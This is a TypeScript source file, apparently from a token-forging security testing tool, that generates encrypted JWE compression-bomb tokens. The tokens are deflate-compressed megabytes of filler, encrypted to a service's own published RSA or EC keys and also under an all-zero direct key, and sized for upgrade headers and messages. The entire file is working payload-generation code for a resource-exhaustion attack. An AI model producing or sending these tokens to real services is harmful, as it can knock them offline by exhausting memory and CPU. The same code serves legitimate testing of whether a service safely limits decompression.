import {
  constants,
  createCipheriv,
  createHash,
  createPublicKey,
  diffieHellman,
  generateKeyPairSync,
  publicEncrypt,
  randomBytes,
} from 'node:crypto'
import { deflateRawSync } from 'node:zlib'
import type { JWK } from 'jose'
import { base64url, encodedJson, type Forgery } from './forge.ts'

const enc = 'A256GCM'
const megabyte = 1024 * 1024
/** Bounds the work where a service publishes many keys. */
const mostKeys = 4

/** Sizes that fit into a header of an upgrade, and into a message. */
export const bombMegabytes = { header: 4, message: 64 } as const

/**
 * Encrypted tokens whose content is compressed a thousand times (RFC 7516, `zip`): to each published key, and under a key
 * of zero bytes.
 */
export function compressionBombs(
  userId: string,
  published: readonly JWK[],
  megabytes: number,
): Omit<Forgery, 'isLenient'>[] {
  const content = deflateRawSync(Buffer.alloc(megabytes * megabyte, ' '), { level: 9 })
  const keys = [
    ...published.slice(0, mostKeys).map(toPublished),
    ...[{ header: { alg: 'dir' }, cek: Buffer.alloc(32) }],
  ]
  return keys.flatMap((key) => {
    if (key === null) return []
    const name = `that is ${megabytes} MB when its content is inflated, encrypted by ${key.header.alg}`
    return [{ name, token: encrypted(key, content), userId }]
  })
}

interface ContentKey {
  readonly header: { readonly alg: string } & Readonly<Record<string, unknown>>
  readonly cek: Buffer
  /** The key as it travels; none where it is agreed on. */
  readonly encryptedKey?: Buffer
}

function toPublished(jwk: JWK): ContentKey | null {
  const { kty, crv, x, y, n, e, kid } = jwk
  const named = kid === undefined ? {} : { kid }
  try {
    if (kty === 'RSA') {
      const key = createPublicKey({ key: { kty, n: n ?? '', e: e ?? '' }, format: 'jwk' })
      const cek = randomBytes(32)
      const padding = constants.RSA_PKCS1_OAEP_PADDING
      return {
        header: { alg: 'RSA-OAEP', ...named },
        cek,
        encryptedKey: publicEncrypt({ key, padding, oaepHash: 'sha1' }, cek),
      }
    }
    if (kty !== 'EC' || crv === undefined) return null
    const publicKey = createPublicKey({ key: { kty, crv, x: x ?? '', y: y ?? '' }, format: 'jwk' })
    const own = generateKeyPairSync('ec', { namedCurve: crv })
    const shared = diffieHellman({ privateKey: own.privateKey, publicKey })
    const epk = own.publicKey.export({ format: 'jwk' })
    return { header: { alg: 'ECDH-ES', epk, ...named }, cek: derived(shared) }
  } catch {
    return null
  }
}

/** The key of direct agreement (RFC 7518, 4.6.2), of one round of SHA-256. */
function derived(shared: Buffer): Buffer {
  const number = (value: number) => {
    const bytes = Buffer.alloc(4)
    bytes.writeUInt32BE(value)
    return bytes
  }
  const algorithm = Buffer.concat([number(enc.length), Buffer.from(enc)])
  const info = Buffer.concat([algorithm, number(0), number(0), number(256)])
  return createHash('sha256')
    .update(Buffer.concat([number(1), shared, info]))
    .digest()
}

function encrypted({ header, cek, encryptedKey = Buffer.alloc(0) }: ContentKey, content: Buffer): string {
  const written = base64url(encodedJson({ ...header, enc, zip: 'DEF' }))
  const iv = randomBytes(12)
  const cipher = createCipheriv('aes-256-gcm', cek, iv)
  cipher.setAAD(Buffer.from(written))
  const ciphertext = Buffer.concat([cipher.update(content), cipher.final()])
  return [
    written,
    ...[encryptedKey, iv, ciphertext, cipher.getAuthTag()].map((bytes) => base64url(bytes)),
  ].join('.')
}
